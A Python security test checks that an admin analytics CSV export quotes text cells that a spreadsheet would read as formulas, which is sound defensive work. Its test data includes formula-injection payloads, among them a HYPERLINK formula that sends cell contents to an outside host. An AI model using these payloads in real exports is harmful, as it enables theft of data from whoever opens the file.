"""Issue 16 item 12: an analytics CSV never hands a spreadsheet a formula (a circle named =HYPERLINK(...))."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from sqlalchemy import update

from nook.jobs.schedule import run_job
from nook.store.db import transaction
from nook.store.models import Circle, User
from tests.analytics.gen import GPost, GUser, add_circle, add_post, add_user, fix_sequences
from tests.analytics.test_report_and_api import NOW
from tests.security.conftest import Attackers

NAMES = ['=HYPERLINK("//x.cn?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "正常的圈子"]


def test_text_cells_that_read_as_formulas_are_quoted(attackers: Attackers) -> None:
    with transaction() as s:
        add_user(s, GUser(900, NOW - timedelta(days=30)))
        s.flush()
        for i, name in enumerate(NAMES, start=1):
            add_circle(s, 900 + i, 900, NOW - timedelta(days=30))
            s.flush()
            s.execute(update(Circle).where(Circle.id == 900 + i).values(name=name))
            add_post(s, GPost(900 + i, 900, 900 + i, NOW, "none"))
        admin = s.get(User, attackers.admin.id)
        assert admin is not None
        admin.is_admin = True  # through the ORM, so the cached viewer's stamp changes with it
        fix_sequences(s)
    run_job("analytics", NOW)
    resp = attackers.admin.http.get("/admin/analytics/circles.csv", params={"from": "2026-03-09", "to": "2026-03-10"})
    assert resp.status_code == 200, resp.text
    rows = list(csv.reader(io.StringIO(resp.text.lstrip("\ufeff"), newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    names = {c for c in cells if c.lstrip("'") in NAMES}
    assert names == {"'" + n for n in NAMES[:-1]} | {"正常的圈子"}
